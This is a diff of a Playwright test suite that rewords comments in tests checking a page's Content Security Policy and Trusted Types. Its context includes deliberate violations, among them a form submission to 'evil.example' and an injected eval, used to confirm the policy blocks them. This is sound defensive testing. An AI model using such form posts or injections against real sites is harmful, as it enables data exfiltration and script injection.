@@ -30,11 +30,11 @@ test('a page without a nonce runs under a policy of hashes, with Trusted Types e
 
   await hydrate(page)
   await expect(page.locator('[data-basket-count]').first()).toBeAttached()
-  // The session is all that public HTML does not say; everything else came with the page.
+  // Public HTML lacks only the session; everything else came with the page.
   expect(requestedPaths.filter((path) => path.startsWith('/bff'))).toEqual(['/bff/session'])
 })
 
-/** Does what no page may, and says how it went and which directives stood in the way. Runs in the page. */
+/** Violates each directive; returns the errors and the directives that did not block. Runs in the page. */
 const violatePolicy = async () => {
   const violated = new Set<string>()
   document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective))
@@ -72,7 +72,7 @@ const violatePolicy = async () => {
   const form = make('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement
   form.submit()
   await new Promise((resolve) => setTimeout(resolve, 300))
-  // Not before a pause: what a test runs at once may evaluate whatever the policy says.
+  // After a pause: code that Playwright evaluates may use eval until it yields.
   const evaluation = attempt(() => globalThis.eval('self.planted = true'))
   const wanted = [
     'require-trusted-types-for',
@@ -118,7 +118,7 @@ for (const [kind, path] of [
     })
     expect(allowedDirectives).toEqual([])
     expect([colour === 'rgb(1, 2, 3)', hasRun]).toEqual([false, false])
-    // What no test declares fails it: no page of any journey has a style attribute.
+    // An undeclared violation fails any test, so no page of a journey has a style attribute.
     expect(browserErrors.seen.join()).toContain('CSP violation: style-src-attr')
   })
 }
